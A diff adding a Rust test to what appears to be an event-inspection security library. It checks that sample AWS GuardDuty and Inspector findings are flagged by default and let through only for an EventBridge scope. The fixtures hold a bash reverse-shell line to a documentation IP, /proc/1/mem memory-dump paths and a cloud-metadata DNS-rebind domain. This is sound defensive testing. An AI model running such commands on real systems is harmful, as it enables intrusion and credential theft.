@@ -312,6 +312,67 @@ fn allowlists_scopes_and_disable() {
         .any(|f| f.category == Category::Sqli));
 }
 
+/// Findings of AWS security services describe attacks; the scope `docs/configuration.md`
+/// gives a function that answers them lets them through, and only for its trigger.
+#[test]
+fn security_findings_pass_with_the_documented_scope() {
+    let finding = |source: &str, detail: Value| {
+        json!({"version": "0", "id": "e1", "detail-type": "Finding", "source": source,
+            "account": "123456789012", "time": "2026-01-01T00:00:00Z", "region": "us-east-1",
+            "resources": [], "detail": detail})
+    };
+    let process = |path: &str| json!({"name": "x", "executablePath": path, "pwd": "/root"});
+    let findings = [
+        finding(
+            "aws.guardduty",
+            json!({"type": "Execution:Runtime/NewBinaryExecuted",
+            "service": {"runtimeDetails": {"process": process("/tmp/x"),
+                "lineage": [process("/usr/bin/bash"), process("/usr/sbin/sshd")]}}}),
+        ),
+        finding(
+            "aws.guardduty",
+            json!({"type": "Execution:Runtime/ReverseShell",
+            "description": "Process bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "service": {"runtimeDetails": {"process": process("/usr/bin/bash")}}}),
+        ),
+        finding(
+            "aws.guardduty",
+            json!({"type": "CredentialAccess:Runtime/MemoryDumpExecuted",
+            "service": {"runtimeDetails": {"context": {"memoryRegions": ["/proc/1/mem"]}}}}),
+        ),
+        finding(
+            "aws.guardduty",
+            json!({"type": "UnauthorizedAccess:EC2/MetadataDNSRebind",
+            "service": {"action": {"dnsRequestAction": {"domain": "169.254.169.254.nip.io"}}}}),
+        ),
+        finding(
+            "aws.inspector2",
+            json!({"type": "PACKAGE_VULNERABILITY",
+            "packageVulnerabilityDetails": {"vulnerablePackages": [
+                {"filePath": "/usr/local/jetty/lib/http2/http2-hpack-9.4.27.jar"},
+                {"filePath": "/var/task/requests-2.25.0.dist-info/METADATA"}]}}),
+        ),
+    ];
+    let config: Config = Config::from_toml(
+        r#"
+        [[inspect.scope]]
+        trigger = "eventbridge"
+        disable = ["path_traversal", "command_injection", "ssrf"]
+        "#,
+    )
+    .unwrap();
+    config.validate().unwrap();
+    for event in &findings {
+        assert!(!inspect(event).is_empty(), "refused by default: {event}");
+        let f = inspect_with(&config.inspect, event);
+        assert!(f.is_empty(), "{f:?} in {event}");
+    }
+    // Another trigger carrying the same text is still read.
+    let sqs = json!({"Records": [{"messageId": "m", "eventSource": "aws:sqs",
+        "body": json!({"p": "/proc/1/mem", "d": "169.254.169.254.nip.io"}).to_string()}]});
+    assert!(!inspect_with(&config.inspect, &sqs).is_empty());
+}
+
 #[test]
 fn paranoia_adds_rules() {
     let event = http(json!({"q": "a/b/../c"}), None);
